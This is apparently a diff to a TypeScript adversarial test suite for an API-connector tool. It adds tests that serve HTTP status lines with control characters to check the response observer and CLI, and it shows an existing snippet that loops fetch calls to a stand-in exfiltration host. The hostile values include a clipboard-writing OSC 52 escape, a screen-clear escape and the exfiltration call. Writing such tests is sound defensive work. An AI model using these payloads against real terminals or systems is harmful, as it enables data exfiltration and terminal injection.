@@ -1,4 +1,5 @@
 import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import { createServer, type AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { captureIo } from '../../../agent/cli/io.ts';
@@ -7,6 +8,7 @@ import { writeConnectorDir } from '../../../agent/generate/connector-dir.ts';
 import { generateConnector } from '../../../agent/generate/generate-connector.ts';
 import type { ApiModel } from '../../../agent/ingest/api-model.ts';
 import { planHeuristically } from '../../../agent/plan/heuristic-planner.ts';
+import { ResponseObserver } from '../../../agent/run/observe-responses.ts';
 import { validateConnector } from '../../../agent/validate/run-validation.ts';
 import { MAX_VIOLATION_FINDINGS } from '../../../agent/validate/checks/sandbox.ts';
 import { Scorecard } from '../../../agent/validate/scorecard.ts';
@@ -68,6 +70,30 @@ const refusedRequests = (n: number) => `async function run() {
   const tail = 'x'.repeat(16000);
   for (let i = 0; i < ${n}; i++) { try { await fetch('https://exfil.evil.test/' + i + '/' + tail); } catch {} }
 }`;
+
+/**
+ * Serves `statusLine` with a JSON `body` on a raw 127.0.0.1 socket (node:http would refuse to write
+ * such a line), calls `use` with the server's origin, and stops the server.
+ */
+async function withRawServer<T>(statusLine: string, body: string, use: (origin: string) => Promise<T>): Promise<T> {
+  const server = createServer((sock) => {
+    let head = '';
+    sock.on('data', (d) => {
+      head += d.toString('latin1');
+      if (head.includes('\r\n\r\n')) sock.end(Buffer.from(`${statusLine}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`, 'latin1'));
+    });
+    sock.on('error', () => {});
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  try {
+    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+  } finally {
+    await new Promise((resolve) => server.close(resolve));
+  }
+}
+
+/** Status lines whose reason-phrase `Response` refuses (control characters) or whose code it refuses. */
+const HOSTILE_STATUS_LINES = ['HTTP/1.1 200 \x1b[2JOK', 'HTTP/1.1 404 \x1b]52;c;cHduZWQ=\x07Oops', 'HTTP/1.1 500 \x7fOops', 'HTTP/1.1 200 \x00'];
 
 export const HOST_RESOURCE_ATTACKS: Attack[] = [
   {
@@ -203,6 +229,47 @@ export const HOST_RESOURCE_ATTACKS: Attack[] = [
       const lines = (await readFile(path.join(state, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { step: string; outcome: string });
       const last = lines.at(-1);
       return lines.length > 1 && last?.step === 'end' && last.outcome !== 'ok' ? undefined : `the audit log ends with ${JSON.stringify(last)} after ${lines.length} lines`;
+    },
+  },
+  {
+    name: 'responses: status lines with control characters in the reason-phrase — the run observer hands on a readable response with the same status and bytes, never a locked one',
+    layer: 'other',
+    async attempt() {
+      const model = await usersModel();
+      const body = JSON.stringify([{ id: 'u1', name: 'a', email: 'a@x.test' }]);
+      for (const line of HOSTILE_STATUS_LINES) {
+        const got = await withRawServer(line, body, async (origin) => {
+          const observer = new ResponseObserver({ plan: planHeuristically(model), model, baseUrl: origin, maxResponseBytes: MB, secrets: [] });
+          const request = new Request(`${origin}/users`);
+          const response = await fetch(request);
+          const handed = observer.observe(request, response);
+          if (handed.bodyUsed || handed.body?.locked) return `${JSON.stringify(line)}: the response handed on is locked`;
+          const text = await handed.text();
+          if (handed.status !== Number(line.slice(9, 12)) || text !== body) return `${JSON.stringify(line)}: handed on ${handed.status} with ${text.length} bytes`;
+          return undefined;
+        });
+        if (got) return got;
+      }
+      return undefined;
+    },
+  },
+  {
+    name: 'responses: `fetchwright run` against a server answering `HTTP/1.1 200 \\x1b[2JOK` ends its run audited with an exit code of its own, never an internal error',
+    layer: 'other',
+    async attempt() {
+      const model = await usersModel();
+      const root = await mkdtemp(path.join(os.tmpdir(), 'fetchwright-status-'));
+      const generated = await generateConnector(model, planHeuristically(model), { seed: 1, maxAttempts: 1, force: false });
+      const { dir } = writeConnectorDir(path.join(root, 'connectors'), generated);
+      const state = path.join(root, 'state');
+      return withRawServer('HTTP/1.1 200 \x1b[2JOK', JSON.stringify([{ id: 'u1', name: 'a', email: 'a@x.test' }]), async (origin) => {
+        const io = captureIo();
+        const code = await main(['run', dir, '--base-url', origin, '--credential-env', 'API_TOKEN'], io, { ...process.env, FETCHWRIGHT_STATE_DIR: state, API_TOKEN: 'fw-status-attack-token-91c2' });
+        if (code === 1) return `run ended in an internal error: ${io.err().slice(0, 200)}`;
+        if ((io.out() + io.err()).includes('\x1b')) return 'the escape reached the terminal';
+        const last = (await readFile(path.join(state, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { step: string }).at(-1);
+        return last?.step === 'end' ? undefined : `the audit log ends with ${JSON.stringify(last)}`;
+      });
     },
   },
 ];
